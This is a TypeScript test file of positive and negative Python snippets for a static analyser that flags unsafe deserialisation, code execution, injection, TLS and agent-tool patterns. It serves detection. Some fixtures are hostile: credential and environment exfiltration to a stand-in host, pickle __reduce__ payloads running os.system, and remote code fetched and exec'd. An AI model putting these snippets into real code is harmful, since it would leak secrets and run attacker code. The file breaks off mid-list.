import assert from 'node:assert/strict';
import { PYTHON_ANALYSER } from '../../../src/core/python/analyser';
import type { PYTHON_RULES } from '../../../src/core/python/rules';
import { judge } from '../pii/judge';

/** Code that has to be reported, and code as like it as can be that must not. */
interface Case {
  rule: keyof typeof PYTHON_RULES;
  severity: string;
  bad: readonly string[];
  honest: readonly string[];
}

const CASES: readonly Case[] = [
  {
    rule: 'pickle-load',
    severity: 'medium',
    bad: [
      'import pickle\npickle.load(f)',
      'import pickle as p\np.loads(b)',
      'from pickle import load as L\nL(f)',
      'from pickle import *\nload(f)',
      'from dill import Unpickler\nUnpickler(f).load()',
      "import pickle\ngetattr(pickle, 'lo' + 'ad')(f)",
      "import pickle\nname = 'loads'\ngetattr(pickle, name)(b)",
      "m = __import__('pick' + 'le')\nm.loads(b)",
      "import importlib\nimportlib.import_module('pickle').load(f)",
      'import functools, pickle\nload = functools.partial(pickle.load, encoding="latin1")\nload(f)',
      'import pickle\ndef read(f, loader=pickle.load):\n    return loader(f)',
      'try:\n    import cPickle as pickle\nexcept ImportError:\n    import pickle\npickle.load(f)',
      'try:\n    import dill as pickle\nexcept ImportError:\n    pickle = None\npickle.load(f)',
      'import pickle\ndef f():\n    return a(b)\na = pickle.load\na(g)',
      'import pickle\nclass A:\n    def load(self): ...\nfrom pickle import load\nload(f)',
      'import pickle\nx = [pickle.loads(r) for r in rows]',
      'import pickle\nobjects = list(map(pickle.loads, rows))',
      'import pickle\nread, write = pickle.load, pickle.dump\nread(f)',
      'def f():\n    return pickle_.load(g)\nimport pickle as pickle_',
      'import pandas as pd\npd.read_pickle("a.pkl")',
      'import skops.io as sio\nsio.load("a.skops", trusted=True)',
      'import skops.io as sio\nsio.load("a", trusted=sio.get_untrusted_types(file="a"))',
      'ｐｉｃｋｌｅ.ｌｏａｄ(f)',
      'import pickle\nclass A:\n    def __init__(self):\n        self.read = pickle.load\n    def go(self, f):\n        return self.read(f)',
      'import pickle\nclass A:\n    read = staticmethod(pickle.load)\n    def go(self, f):\n        return self.read(f)',
      'import pickle\nclass A:\n    read = pickle.load\nA.read(f)',
      'import pickle\nclass A:\n    read = staticmethod(pickle.load)\nclass B(A):\n    pass\nB().read(f)',
      'import pickle\nclass U(pickle.Unpickler):\n    def persistent_load(self, pid):\n        return pid\nU(f).load()',
      "import pickle\nclass U(pickle.Unpickler):\n    def find_class(self, module, name):\n        return super().find_class(module.replace('a', 'b'), name)\nu = U(f)\nu.load()",
      "import json, pickle\nREADERS = {'json': json.load, 'pkl': pickle.load}\nREADERS[suffix](f)",
      "import pickle\nREADERS = {'pkl': pickle.load}\nREADERS.get('pkl')(f)",
      'import pickle\nreaders = [pickle.loads]\nreaders[0](b)',
      'import pickle\nfor read in (pickle.loads, bytes):\n    read(b)',
      'import pickle\nif (read := pickle.loads):\n    read(b)',
      "from fastai.vision.all import *\nlearn = load_learner('export.pkl')",
      "import pytorch_lightning as pl\nclass Net(pl.LightningModule):\n    pass\nNet.load_from_checkpoint('a.ckpt')",
      "from stable_baselines3 import PPO\nPPO.load('m.zip')",
      "import gensim\ngensim.models.Word2Vec.load('w2v')",
      "import nltk\nnltk.data.load('tokenizers/punkt/english.pickle')",
      "import statsmodels.api as sm\nsm.load('fit.pickle')",
    ],
    honest: [
      '# pickle.load(f)\nx = "pickle.load(f)"\n"""pickle.load(f)"""',
      'import json\njson.load(f)',
      'from mylib import pickle\npickle.load(f)',
      'from . import pickle\npickle.load(f)',
      'import pickle\nclass A:\n    def load(self): ...\n    def go(self):\n        self.load()',
      'def load(f): ...\nload(f)',
      'load = lambda pickle: pickle.load(f)',
      '[pickle.load(f) for pickle in loaders]',
      'import pickle\npickle.dump(m, f)',
      'import skops.io as sio\nsio.load("a.skops", trusted=["numpy.ndarray"])',
      'import pickle\ncopy = pickle.loads(pickle.dumps(x))',
      'import json, pickle\nclass A:\n    def __init__(self):\n        self.read = json.load\n        self.write = pickle.dump\n    def go(self, f):\n        return self.read(f)',
      'import pickle\nclass A:\n    def __init__(self):\n        self.read = pickle.load\nclass B:\n    def go(self, f):\n        return self.read(f)',
      'import pickle\nclass A:\n    def read(self, f):\n        return f\nA().read(f)\nREAD = pickle.HIGHEST_PROTOCOL',
      'import pickle\nclass U(pickle.Unpickler):\n    def find_class(self, module, name):\n        if name not in SAFE:\n            raise pickle.UnpicklingError(name)\n        return super().find_class(module, name)\nU(f).load()',
      'import pickle\nclass U(pickle.Unpickler):\n    def load(self):\n        return None\nU(f).load()',
      "import json, pickle\nREADERS = {'json': json.load, 'pkl': pickle.load}\nREADERS['json'](f)",
      'import pickle\nwriters = [pickle.dump]\nwriters[0](x, f)',
      "import nltk\nnltk.data.load('grammars/a.cfg')",
      'import statsmodels.api as sm\ndata = sm.datasets.longley.load()',
      "import gensim\ngensim.models.KeyedVectors.load_word2vec_format('w.txt')",
    ],
  },
  {
    rule: 'pickle-load',
    severity: 'high',
    bad: [
      'import zmq\nsocket.recv_pyobj()',
      'import pickle, urllib.request\npickle.load(urllib.request.urlopen(u))',
      'import pickle, requests\nr = requests.get(u)\ndata = r.content\npickle.loads(data)',
    ],
    honest: ['socket.recv_json()'],
  },
  {
    rule: 'torch-load',
    severity: 'medium',
    bad: [
      "import torch\ntorch.load('m.pt')",
      "from torch import load\nload('m.pt', map_location='cpu')",
      "import os\nos.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '1'",
      "import torch\ntorch.load('m.pt', **{'map_location': 'cpu'})",
      "Model.load_from_checkpoint('a.ckpt', weights_only=False)",
    ],
    honest: [
      "import torch\ntorch.load('m.pt', weights_only=True)",
      "import torch, functools\nload = functools.partial(torch.load, weights_only=True)\nload('m.pt')",
      "import os\nos.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '0'",
      "import torch\noptions = {}\nif new:\n    options['weights_only'] = True\ntorch.load('m.pt', **options)",
      "import torch\noptions = dict(weights_only=True)\ntorch.load('m.pt', **options)",
      'torch.save(m, f)\ntorch.load_state_dict(x)',
    ],
  },
  {
    rule: 'numpy-allow-pickle',
    severity: 'medium',
    bad: [
      "import numpy as np\nnp.load('a.npy', allow_pickle=True)",
      "import numpy as np\nnp.load('a.npy', None, True)",
      "import numpy as np\noptions = dict(allow_pickle=True)\nnp.load('a.npy', **options)",
      'import numpy as np\nold = np.load\nnp.load = lambda *a, **k: old(*a, allow_pickle=True, **k)',
    ],
    honest: [
      "import numpy as np\nnp.savez('a', x, allow_pickle=True)\nnp.load('a', allow_pickle=False)",
      "import numpy as np\noptions = {'allow_pickle': False}\nnp.load('a.npy', **options)",
    ],
  },
  {
    rule: 'keras-unsafe-load',
    severity: 'high',
    bad: [
      "import tensorflow as tf\ntf.keras.models.load_model('m.keras', safe_mode=False)",
      "from keras.saving import load_model\nload_model('m.keras', safe_mode=False)",
      'import keras\nkeras.config.enable_unsafe_deserialization()',
    ],
    honest: ["import tensorflow as tf\ntf.keras.models.load_model('m.keras', safe_mode=True)", 'run(safe_mode=False)'],
  },
  {
    rule: 'yaml-load',
    severity: 'high',
    bad: [
      'import yaml\nyaml.load(f, Loader=yaml.UnsafeLoader)',
      'from yaml import load, Loader\nload(f, Loader)',
      'import yaml\nyaml.unsafe_load(f)',
      "from ruamel.yaml import YAML\ny = YAML(typ='unsafe')",
      'import ruamel.yaml\nruamel.yaml.load(f)',
    ],
    honest: [
      'import yaml\nyaml.load(f, Loader=yaml.SafeLoader)\nyaml.safe_load(f)',
      'from yaml import load, CSafeLoader as Loader\nload(f, Loader=Loader)',
      "from ruamel.yaml import YAML\ny = YAML(typ='safe')\ny.load(f)",
    ],
  },
  {
    rule: 'trust-remote-code',
    severity: 'medium',
    bad: [
      "from datasets import load_dataset\nload_dataset('o/d', trust_remote_code=True)",
      "from llama_index.embeddings.huggingface import HuggingFaceEmbedding\nHuggingFaceEmbedding('o/m', trust_remote_code=True)",
      "x = anything.from_pretrained('o/m', trust_remote_code=True)",
      "x = Embeddings('o/m', trust_remote_code=True)",
      "from transformers import AutoModel\noptions = {'trust_remote_code': True}\nAutoModel.from_pretrained('o/m', **options)",
      "import diffusers\ndiffusers.DiffusionPipeline.from_pretrained('o/m', custom_pipeline='o/pipe')",
      'from langchain_huggingface import HuggingFaceEmbeddings\nHuggingFaceEmbeddings(model_kwargs={"device": "cpu", "trust_remote_code": True})',
      "import os\nos.environ['HF_DATASETS_TRUST_REMOTE_CODE'] = '1'",
    ],
    honest: [
      "x = anything.from_pretrained('o/m', trust_remote_code=False)",
      "f('./model', trust_remote_code=True)",
      "import diffusers\ndiffusers.DiffusionPipeline.from_pretrained('o/m', custom_pipeline='./pipe')",
      'f(kwargs={"trust_remote_code": False, "x": True})',
    ],
  },
  {
    rule: 'dynamic-code',
    severity: 'medium',
    bad: [
      "df['tags'] = df['tags'].apply(eval)",
      'values = list(map(eval, lines))',
      'exec("a = " + b)',
      'import builtins\nbuiltins.exec(f"x = {y}")',
      "__builtins__['exec'](f'x = {y}')",
    ],
    honest: [
      'model.eval()\ndf.eval("a + b")\nre.compile(x)\nsession.exec(select(Hero))',
      "df['a'].apply(len)\nmap(int, lines)",
      'import ast\nast.literal_eval(x)',
      'eval("1 + 1")\nX = "2"\neval(X)',
      "b = eval(repr(a), {'A': A})\nc = eval('numpy.' + repr(a))",
    ],
  },
  {
    rule: 'dynamic-code',
    severity: 'low',
    bad: ['code = compile(source, name, "exec")\nexec(code, namespace)', 'exec(compile(source, name, "exec"))'],
    honest: ['code = compile("1 + 1", "a", "eval")'],
  },
  {
    rule: 'dynamic-code',
    severity: 'high',
    bad: [
      'eval(input())',
      'import pandas as pd\npd.eval(input())',
      'import sympy\nsympy.sympify(input("f(x) = "))',
      'import requests\nexec(requests.get(u).text)',
    ],
    honest: ['import pandas as pd\npd.eval("a + b")', 'import sympy\nsympy.sympify("x**2")'],
  },
  {
    rule: 'shell-injection',
    severity: 'medium',
    bad: [
      "import os\nos.system('rm ' + path)",
      "import os\ncommand = f'rm {path}'\nos.system(command)",
      "import subprocess\nsubprocess.run('rm {}'.format(path), shell=True)",
      "import subprocess\nsubprocess.run(['bash', '-c', f'rm {path}'])",
      "client.exec_command(f'ls {folder}')",
      "from functools import partial\nimport subprocess\nsh = partial(subprocess.check_call, shell=True)\nsh(f'rm {path}')",
    ],
    honest: [
      "import subprocess\nsubprocess.run(['rm', path])\nsubprocess.run(f'rm {path}')",
      "import os\nos.system('ls')\nplatform.system()",
      "client.exec_command('ls')",
      "import subprocess\nsubprocess.run(['bash', '-c', 'ls'])",
    ],
  },
  {
    rule: 'runtime-install',
    severity: 'info',
    bad: [
      "import os\nos.system('pip install x')",
      "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', name])",
      "import pip\npip.main(['install', 'x'])",
    ],
    honest: ["import os\nos.system('pip --version')", "import subprocess\nsubprocess.run(['pip', 'list'])"],
  },
  {
    rule: 'sql-injection',
    severity: 'medium',
    bad: [
      'cur.execute("SELECT a FROM t WHERE b = \'%s\'" % c)',
      'q = f"SELECT a FROM t WHERE b = \'{c}\'"\ncur.execute(q)',
      'import pandas as pd\npd.read_sql(f"SELECT a FROM t WHERE b = {c}", con)',
    ],
    honest: [
      'cur.execute("SELECT a FROM t WHERE b = %s", (c,))',
      'log.execute(f"select one from {c}".upper)',
      'df.query(f"a == {b}")',
    ],
  },
  {
    rule: 'tls-verification-disabled',
    severity: 'medium',
    bad: [
      'import requests\nrequests.get(u, verify=False)',
      'import httpx\nwith httpx.Client(verify=False) as c: ...',
      'import urllib3\nurllib3.PoolManager(cert_reqs="CERT_NONE")',
      "import os\nos.environ['CURL_CA_BUNDLE'] = ''",
      'import ssl\nctx = ssl.create_default_context()\nctx.verify_mode = ssl.CERT_NONE',
      'import pymongo\npymongo.MongoClient(u, tlsAllowInvalidCertificates=True)',
    ],
    honest: [
      "import requests\nrequests.get(u, verify='/etc/ca.pem')",
      "import os\nos.environ['CURL_CA_BUNDLE'] = '/etc/ca.pem'",
      'model.get(x, verify=False)',
      'import ssl\nctx.verify_mode = ssl.CERT_REQUIRED',
      'import ssl\nclass A:\n    def __init__(self):\n        self.mode = ssl.CERT_NONE\n    def wrap(self, s):\n        options = {"cert_reqs": self.mode}\n        return ssl.wrap_socket(s, **options)',
    ],
  },
  {
    rule: 'bind-all-interfaces',
    severity: 'low',
    bad: [
      "import uvicorn\nuvicorn.run(app, host='0.0.0.0')",
      "from http.server import HTTPServer\nHTTPServer(('', 80), H)",
      "server.add_insecure_port('[::]:50051')",
    ],
    honest: [
      "import uvicorn\nuvicorn.run(app, host='127.0.0.1')",
      "from http.server import HTTPServer\nHTTPServer(('localhost', 80), H)",
      "x = '0.0.0.0'",
      "import socket\ns = socket.socket()\ns.bind(('', 0))\nport = s.getsockname()[1]",
    ],
  },
  {
    rule: 'bind-all-interfaces',
    severity: 'medium',
    bad: ["import ray\nray.init(dashboard_host='0.0.0.0')"],
    honest: ['import ray\nray.init()'],
  },
  {
    rule: 'template-injection',
    severity: 'medium',
    bad: ['from flask import render_template_string\nrender_template_string(f"<b>{name}</b>")'],
    honest: [
      'from flask import render_template_string\nrender_template_string("<b>{{ name }}</b>", name=name)',
      'from jinja2 import Template\nTemplate(chat_template)',
    ],
  },
  {
    rule: 'agent-code-execution',
    severity: 'medium',
    bad: [
      'from langchain.agents import load_tools\nload_tools(["python_repl"])',
      'from langchain_community.tools import ShellTool\nShellTool()',
      'from interpreter import interpreter\ninterpreter.auto_run = True',
    ],
    honest: ['from langchain.agents import load_tools\nload_tools(["llm-math"])'],
  },
  {
    rule: 'native-library',
    severity: 'low',
    bad: ["import torch\ntorch.ops.load_library('ops.so')", "options.register_custom_ops_library('ops.so')"],
    honest: [
      'from onnxruntime_extensions import get_library_path\noptions.register_custom_ops_library(get_library_path())',
    ],
  },
  {
    rule: 'xml-entities',
    severity: 'medium',
    bad: ['from lxml import etree\netree.XMLParser(resolve_entities=True)'],
    honest: ['from lxml import etree\netree.XMLParser()\netree.XMLParser(resolve_entities=False)'],
  },
  {
    rule: 'loose-permissions',
    severity: 'low',
    bad: ['import os\nos.chmod(p, 0o777)', 'import os\nos.chmod(p, 0o666)'],
    honest: ['import os\nos.chmod(p, 0o755)\nos.chmod(p, 0o644)\nos.chmod(p, mode)'],
  },
  {
    rule: 'archive-extraction',
    severity: 'low',
    bad: ["import tarfile\ntarfile.open('a').extractall()", "import shutil\nshutil.unpack_archive('a.tar.gz', 'd')"],
    honest: [
      "import tarfile\ntarfile.open('a').extractall(filter='data')",
      "import zipfile\nzipfile.ZipFile('a').extractall()",
      "import shutil\nshutil.unpack_archive('a.zip')",
    ],
  },
  {
    rule: 'no-authentication',
    severity: 'high',
    bad: ['import os\nos.system("jupyter lab --ip=0.0.0.0 --NotebookApp.token=\'\'")'],
    honest: ["import os\nos.system('jupyter lab --NotebookApp.token=abc')"],
  },
  {
    rule: 'pickle-load',
    severity: 'medium',
    bad: [
      "import hickle as hkl\nhkl.load('a.hkl')",
      "import paddle\npaddle.load('a.pdparams')",
      "import networkx as nx\nnx.read_gpickle('a')",
      "from gensim.utils import unpickle\nunpickle('a')",
      "from flair.models import SequenceTagger\nSequenceTagger.load('models/tagger.pt')",
      "from pycaret.classification import load_model\nload_model('pipe')",
      "from autogluon.tabular import TabularPredictor\nTabularPredictor.load('ag')",
      "import bentoml\nbentoml.picklable_model.load_model('x:latest')",
      "sc.pickleFile('hdfs://a')",
      'from multiprocessing.connection import Client\nc = Client(address)\nc.recv()',
      "app.conf.accept_content = ['json', 'pickle']",
      "app.conf.update(accept_content=['application/x-python-serialize'])",
      'import pickle\nclass A:\n    def __init__(self):\n        self.codec = pickle\n    def go(self, b):\n        return self.codec.loads(b)',
    ],
    honest: [
      "from flair.models import SequenceTagger\nSequenceTagger.load('ner')",
      "import networkx as nx\nnx.read_gml('a')",
      'from multiprocessing import Pipe\na, b = Pipe()\na.recv()',
      "app.conf.accept_content = ['json']",
      "import mylib\nmylib.load_model('m', safe_mode=False)",
      'import json\nclass A:\n    def __init__(self):\n        self.codec = json\n    def go(self, b):\n        return self.codec.loads(b)',
    ],
  },
  {
    rule: 'pickle-load',
    severity: 'low',
    bad: [
      "import mlflow\nmlflow.sklearn.load_model('runs:/a/model')",
      'from mlflow import pyfunc\npyfunc.load_model(u)',
    ],
    honest: ["import mlflow\nmlflow.xgboost.load_model('runs:/a/model')\nmlflow.sklearn.log_model(m, 'm')"],
  },
  {
    rule: 'pickle-load',
    severity: 'high',
    bad: [
      "import joblib\nfrom huggingface_hub import hf_hub_download\njoblib.load(hf_hub_download('o/m', 'm.joblib'))",
      "import pickle\nfrom huggingface_hub import hf_hub_download\np = hf_hub_download('o/m', 'm.pkl')\nwith open(p, 'rb') as f:\n    pickle.load(f)",
      "import pickle, urllib.request\nurllib.request.urlretrieve('https://x.y/m.pkl', 'm.pkl')\npickle.load(open('m.pkl', 'rb'))",
      "import gdown, joblib\ngdown.download(u, 'm.joblib')\njoblib.load('m.joblib')",
      'import pickle\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.post("/m")\nasync def up(file: UploadFile):\n    return pickle.loads(await file.read())',
    ],
    honest: ["import json, gdown\ngdown.download(u, 'm.json')\njson.load(open('m.json'))"],
  },
  {
    rule: 'torch-load',
    severity: 'high',
    bad: [
      "import torch\nSAFE = False\ntorch.load('m.pt', weights_only=SAFE)",
      'import torch\ntorch.serialization.add_safe_globals([set, eval])',
      'import torch, os\nwith torch.serialization.safe_globals([os.system]):\n    pass',
    ],
    honest: [
      "import torch\nSAFE = True\ntorch.load('m.pt', weights_only=SAFE)",
      'import torch\ndef load(p, weights_only=True):\n    return torch.load(p, weights_only=weights_only)',
      'import torch\ntorch.serialization.add_safe_globals([set, MyConfig])',
    ],
  },
  {
    rule: 'torch-load',
    severity: 'medium',
    bad: [
      "import torch\ntorch.load('m.pt', weights_only=None)",
      'import torch\ndef load(p, weights_only=False):\n    return torch.load(p, weights_only=weights_only)',
      "import torch\nold = torch.load\ndef load(*args, **kwargs):\n    kwargs['weights_only'] = False\n    return old(*args, **kwargs)",
    ],
    honest: ["import torch\nkwargs['weights_only'] = True"],
  },
  {
    rule: 'torch-load',
    severity: 'low',
    bad: ["import torch\ntorch.export.load('m.pt2')"],
    honest: ["import torch\ntorch.export.save(m, 'm.pt2')"],
  },
  {
    rule: 'numpy-allow-pickle',
    severity: 'medium',
    bad: [
      "import numpy as np\nALLOW = True\nnp.load('a', allow_pickle=ALLOW)",
      'import numpy as np\nfrom functools import partial\nnp.load = partial(np.load, allow_pickle=True)',
      "options['allow_pickle'] = True",
    ],
    honest: [
      "import numpy as np\nALLOW = False\nnp.load('a', allow_pickle=ALLOW)",
      "import numpy as np\nfrom functools import partial\nnp.load = partial(np.load, mmap_mode='r')",
    ],
  },
  {
    rule: 'yaml-load',
    severity: 'high',
    bad: ["import yaml\noptions = {'Loader': yaml.UnsafeLoader}\nyaml.load(f, **options)"],
    honest: ["import yaml\noptions = {'Loader': yaml.SafeLoader}\nyaml.load(f, **options)"],
  },
  {
    rule: 'yaml-load',
    severity: 'low',
    bad: ['import yaml\nyaml.load(f, Loader=yaml.FullLoader)', 'import yaml\nyaml.full_load(f)'],
    honest: ['import yaml\nyaml.load(f, Loader=yaml.BaseLoader)'],
  },
  {
    rule: 'trust-remote-code',
    severity: 'medium',
    bad: [
      "from transformers import AutoModel\nTRUST = True\nAutoModel.from_pretrained('o/m', trust_remote_code=TRUST)",
      "kwargs['trust_remote_code'] = True",
      "kwargs.setdefault('trust_remote_code', True)",
      'from transformers import AutoModel\ndef load(name, trust=True):\n    return AutoModel.from_pretrained(name, trust_remote_code=trust)',
      "import lm_eval\nlm_eval.simple_evaluate(model='hf', model_args='pretrained=o/m,trust_remote_code=True')",
      "import os\nos.system('vllm serve o/m --trust-remote-code')",
    ],
    honest: [
      "kwargs['trust_remote_code'] = False\nkwargs.setdefault('trust_remote_code', False)",
      "import lm_eval\nlm_eval.simple_evaluate(model='hf', model_args='pretrained=o/m,trust_remote_code=False')",
      "import argparse\np = argparse.ArgumentParser()\np.add_argument('--trust_remote_code', action='store_true')",
    ],
  },
  {
    rule: 'trust-remote-code',
    severity: 'low',
    bad: ["import evaluate\nevaluate.load('o/metric')"],
    honest: ["import evaluate\nevaluate.load('accuracy')\nevaluate.load('./metric.py')"],
  },
  {
    rule: 'unpinned-revision',
    severity: 'info',
    bad: [
      "from peft import PeftModel\nPeftModel.from_pretrained(base, 'o/lora')",
      "from transformers import AutoModel\nAutoModel.from_pretrained('o/m', revision='main')",
    ],
    honest: ["from peft import PeftModel\nPeftModel.from_pretrained(base, './lora')"],
  },
  {
    rule: 'agent-code-execution',
    severity: 'high',
    bad: [
      "from openai import OpenAI\nclient = OpenAI()\nr = client.chat.completions.create(model='m', messages=m)\nexec(r.choices[0].message.content)",
      'import os\nfrom anthropic import Anthropic\nr = Anthropic().messages.create(messages=m)\nos.system(r.content[0].text)',
      "import ollama, subprocess\na = ollama.chat(model='m', messages=m)['message']['content']\nsubprocess.run(a, shell=True)",
      "from langchain_openai import ChatOpenAI\nllm = ChatOpenAI()\neval(llm.invoke('x').content)",
      'import subprocess\nfrom langchain.tools import tool\n@tool\ndef sh(cmd: str) -> str:\n    return subprocess.check_output(cmd, shell=True)',
      'import os\nfrom mcp.server.fastmcp import FastMCP\nmcp = FastMCP("x")\n@mcp.tool()\ndef sh(cmd: str) -> str:\n    return os.popen(f"ls {cmd}").read()',
      'from agents import function_tool\n@function_tool\ndef calc(expression: str) -> str:\n    return str(eval(expression))',
      "from crewai import Agent\nAgent(allow_code_execution=True, code_execution_mode='unsafe')",
      "from smolagents import CodeAgent\nCodeAgent(tools=[], model=m, additional_authorized_imports=['numpy', 'os'])",
    ],
    honest: [
      "from openai import OpenAI\nr = OpenAI().chat.completions.create(messages=m)\nn = int(r.choices[0].message.content)\nimport os\nos.system(f'sleep {n}')",
      'import subprocess\nfrom langchain.tools import tool\n@tool\ndef grep(word: str) -> str:\n    return subprocess.run(["grep", word, "a.txt"])',
      'import subprocess\nfrom langchain.tools import tool\n@tool\ndef wait(n: int) -> str:\n    return subprocess.run(f"sleep {n}", shell=True)',
      "from crewai import Agent\nAgent(allow_code_execution=True, code_execution_mode='safe')",
      "from smolagents import CodeAgent\nCodeAgent(tools=[], model=m, additional_authorized_imports=['numpy'])",
    ],
  },
  {
    rule: 'agent-code-execution',
    severity: 'medium',
    bad: [
      'from langchain.chains import GraphCypherQAChain\nGraphCypherQAChain.from_llm(llm, allow_dangerous_requests=True)',
      "from autogen.coding import LocalCommandLineCodeExecutor\nLocalCommandLineCodeExecutor(work_dir='c')",
    ],
    honest: ["from autogen.coding import DockerCommandLineCodeExecutor\nDockerCommandLineCodeExecutor(work_dir='c')"],
  },
  {
    rule: 'dangerous-deserialization',
    severity: 'medium',
    bad: ['from langchain_core.load import loads\nloads(text, secrets_from_env=True)'],
    honest: ['from langchain_core.load import loads\nloads(text)'],
  },
  {
    rule: 'dynamic-code',
    severity: 'high',
    bad: [
      'from flask import Flask\napp = Flask(__name__)\n@app.route("/<e>")\ndef f(e):\n    return str(eval(e))',
      'def view(request):\n    return eval(request.GET["q"])',
      "import streamlit as st\ndf.query(st.text_input('filter'))",
    ],
    honest: [
      "import streamlit as st\nn = st.number_input('n')\ndf.query('a > @n')",
      'from flask import Flask\napp = Flask(__name__)\n@app.route("/<e>")\ndef f(e):\n    return e.upper()',
    ],
  },
  {
    rule: 'shell-injection',
    severity: 'high',
    bad: [
      'import os\nos.system(input())',
      "import subprocess\noptions = {'shell': True}\nsubprocess.run(input(), **options)",
      'import subprocess\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.get("/run")\ndef run(cmd: str):\n    return subprocess.check_output(cmd, shell=True)',
      'import socket, subprocess\ns = socket.socket()\nsubprocess.run(s.recv(1024).decode(), shell=True)',
      'get_ipython().system(input())',
    ],
    honest: [
      'import os, shlex\nname = input()\nos.system("cat " + shlex.quote(name))',
      'import subprocess\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.get("/run")\ndef run(n: int):\n    return subprocess.check_output(f"sleep {n}", shell=True)',
      'import subprocess\nsubprocess.run(["cat", input()])',
    ],
  },
  {
    rule: 'shell-injection',
    severity: 'low',
    bad: [
      'import os\ndef run(cmd):\n    os.system(cmd)',
      'import subprocess\nclass A:\n    def sh(self, cmd):\n        return subprocess.run(cmd, shell=True)',
    ],
    honest: [
      "import os\nfor cmd in ['ls', 'pwd']:\n    os.system(cmd)",
      "import os\nSTEPS = {'a': 'make a'}\nfor name, step in STEPS.items():\n    os.system(step)",
      "import os\nos.system('cls' if os.name == 'nt' else 'clear')",
      "import os\nfor seed in range(5):\n    os.system(f'python train.py --seed {seed}')",
      "import os, sys\nn = len(files)\nos.system(f'{sys.executable} run.py {n}')",
      "import os, shlex\nargs = ' '.join(shlex.quote(a) for a in given)\nos.system(f'prog {args}')",
      'import subprocess\ndef run(cmd):\n    subprocess.run(cmd)\n    subprocess.run([cmd], shell=True)',
    ],
  },
  {
    rule: 'sql-injection',
    severity: 'medium',
    bad: [
      'import mysql.connector\nq = "INSERT INTO t VALUES (\'"\nq += name\nq += "\')"\ncur.execute(q)',
      'from pyspark.sql import SparkSession\nspark.sql(f"SELECT * FROM t WHERE u = \'{user}\'")',
      'import asyncpg\nasync def f(n):\n    await c.fetch(f"SELECT * FROM t WHERE n = \'{n}\'")',
      'from django.db import models\nUser.objects.raw(f"SELECT * FROM u WHERE n = \'{n}\'")',
    ],
    honest: [
      "import sqlite3\nfor t in ('a', 'b'):\n    cur.execute(f'SELECT count(*) FROM {t}')",
      "marks = ','.join('?' * len(ids))\ncur.execute(f'SELECT a FROM t WHERE id IN ({marks})', ids)",
      "n = int(input())\ncur.execute(f'SELECT a FROM t LIMIT {n}')",
      "llm.execute(f'Select the best answer from {options}')",
      "from pyspark.sql import SparkSession\nspark.sql(f'SELECT * FROM {table}')",
      "cur.execute('SELECT a FROM %s_sync WHERE id = ?' % ('in' if incoming else 'out'), (i,))",
    ],
  },
  {
    rule: 'sql-injection',
    severity: 'high',
    bad: [
      'import sqlite3\nfrom fastapi import APIRouter\nrouter = APIRouter()\n@router.get("/u")\ndef u(name: str):\n    return con.execute(f"SELECT a FROM t WHERE n = \'{name}\'")',
    ],
    honest: [
      'import sqlite3\nfrom fastapi import APIRouter\nrouter = APIRouter()\n@router.get("/u")\ndef u(name: str):\n    return con.execute("SELECT a FROM t WHERE n = ?", (name,))',
    ],
  },
  {
    rule: 'tls-verification-disabled',
    severity: 'medium',
    bad: [
      'import requests\nVERIFY = False\nrequests.post(u, verify=VERIFY)',
      'import requests\ndef get(u, verify=False):\n    return requests.get(u, verify=verify)',
      'import requests\nclass A:\n    def __init__(self):\n        self.s = requests.Session()\n        self.s.verify = False',
      'import requests\nclass A:\n    def __init__(self):\n        self.s = requests.Session()\n    def go(self):\n        return self.s.get(u, verify=False)',
      'import ssl\nctx.verify_mode = ssl.VerifyMode.CERT_NONE',
    ],
    honest: [
      'import requests\ndef get(u, verify=True):\n    return requests.get(u, verify=verify)',
      'import requests\nclass A:\n    def __init__(self):\n        self.s = Store()\n        self.s.verify = False',
    ],
  },
  {
    rule: 'public-share',
    severity: 'low',
    bad: [
      'from pyngrok import ngrok\nngrok.connect(8501)',
      'from flask_ngrok import run_with_ngrok\nrun_with_ngrok(app)',
      'import gradio as gr\nSHARE = True\ngr.Blocks().launch(share=SHARE)',
    ],
    honest: ["from pyngrok import ngrok\nngrok.connect(8501, auth='u:p')", 'from pyngrok import ngrok\nngrok.kill()'],
  },
  {
    rule: 'debug-server',
    severity: 'medium',
    bad: ['from flask import Flask\nfrom .app import create_app\napp = create_app()\napp.run(debug=True)'],
    honest: ['from flask import Flask\nrunner.run(debug=True)', 'from train import app\napp.run(debug=True)'],
  },
  {
    rule: 'open-origin',
    severity: 'low',
    bad: [
      "from fastapi.middleware.cors import CORSMiddleware\napp.add_middleware(CORSMiddleware, allow_origins=['*'], allow_credentials=True)",
      'from flask_cors import CORS\nCORS(app, supports_credentials=True)',
      "c.ServerApp.allow_origin = '*'",
    ],
    honest: [
      "from fastapi.middleware.cors import CORSMiddleware\napp.add_middleware(CORSMiddleware, allow_origins=['*'])",
      "from flask_cors import CORS\nCORS(app)\nCORS(app, supports_credentials=True, origins=['https://a.b'])",
      "c.ServerApp.allow_origin = 'https://a.b'",
    ],
  },
  {
    rule: 'exfiltration',
    severity: 'critical',
    bad: [
      "import os, requests\nrequests.post('https://x.y', json=dict(os.environ))",
      "import json, os, urllib.request\nreq = urllib.request.Request('https://x.y', data=json.dumps(dict(os.environ)).encode())\nurllib.request.urlopen(req)",
      "import os, httpx\nenv = {k: v for k, v in os.environ.items()}\nhttpx.post('https://x.y', json=env)",
      "import os, requests\nrequests.post('https://x.y', data=open(os.path.expanduser('~/.aws/credentials')).read())",
      "import pathlib, requests\nkey = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()\nrequests.post('https://x.y', data=key)",
    ],
    honest: [
      "import os, requests\nrequests.post('https://x.y', json={'home': os.environ['HOME'], 'n': len(os.environ)})",
      "import os, requests\nrequests.get('https://x.y', headers={'Authorization': os.environ.get('TOKEN')})",
      "import requests\nrequests.post('https://x.y', files={'f': open('data.csv', 'rb')})",
      "import os, requests, subprocess\nenv = dict(os.environ)\nsubprocess.run(['ls'], env=env)\nrequests.post('https://x.y', json={'a': 1})",
    ],
  },
  {
    rule: 'pickle-payload',
    severity: 'high',
    bad: [
      "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id',))",
      "import subprocess\nclass A:\n    def __reduce_ex__(self, protocol):\n        return subprocess.check_output, (['id'],)",
      "class A:\n    def __reduce__(self):\n        return eval, ('1',)",
